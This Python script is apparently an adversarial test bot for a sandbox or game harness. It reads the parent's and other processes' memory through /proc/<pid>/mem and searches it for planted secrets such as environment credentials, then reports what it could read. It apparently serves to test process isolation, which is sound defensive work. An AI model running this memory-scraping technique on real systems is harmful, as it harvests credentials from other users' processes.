#!/usr/bin/env python3
"""Attack 3: scan the memory of its parent (the table: the runner, or a table process of it)
and of every other process it can see through /proc/<pid>/mem, for the planted secrets (the
organiser's environment, the other bots' ``env`` in the config).  Besides the parent it
tries the processes cheatlib.targets names (every visible one, inside a sandbox only); it
reads at most 1 GiB in all and gives up after 5 seconds."""

import os
import time

from cheatlib import flag, others, play, report, secrets_in, why

BUDGET_BYTES = 1 << 30
BUDGET_S = 5.0


def scan(pid: int, deadline: float, budget: list[int]) -> tuple[int, set[str]]:
    """Bytes read and secrets found; raises OSError when the memory cannot be opened."""
    found: set[str] = set()
    total = 0
    with open(f"/proc/{pid}/maps") as fh:
        regions = [line.split() for line in fh]
    fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    try:
        for fields in regions:
            if len(fields) < 2 or not fields[1].startswith("rw") or time.monotonic() > deadline or budget[0] <= 0:
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            pos = start
            tail = b""
            while pos < end and budget[0] > 0 and time.monotonic() < deadline:
                size = min(end - pos, 1 << 20)
                try:
                    chunk = os.pread(fd, size, pos)
                except OSError:
                    break
                if not chunk:
                    break
                total += len(chunk)
                budget[0] -= len(chunk)
                found.update(secrets_in(tail + chunk))
                tail = chunk[-32:]
                pos += len(chunk)
        if total == 0:  # opened but nothing could be read: as good as refused
            raise PermissionError(13, "no memory could be read")
    finally:
        os.close(fd)
    return total, found


def attack(n: int) -> None:
    if n != 1:
        return
    parent = os.getppid()
    order = others(flag("only"))
    deadline = time.monotonic() + BUDGET_S
    budget = [BUDGET_BYTES]
    readable, errors, found = {}, {}, set()
    for pid in order:
        try:
            total, secrets = scan(pid, deadline, budget)
        except OSError as exc:
            errors[str(pid)] = why(exc)
            continue
        readable[str(pid)] = total
        found |= secrets
    report("memory", parent=parent, readable=readable, secrets=sorted(found), errors=errors)


play("memory-reader", on_request=attack)
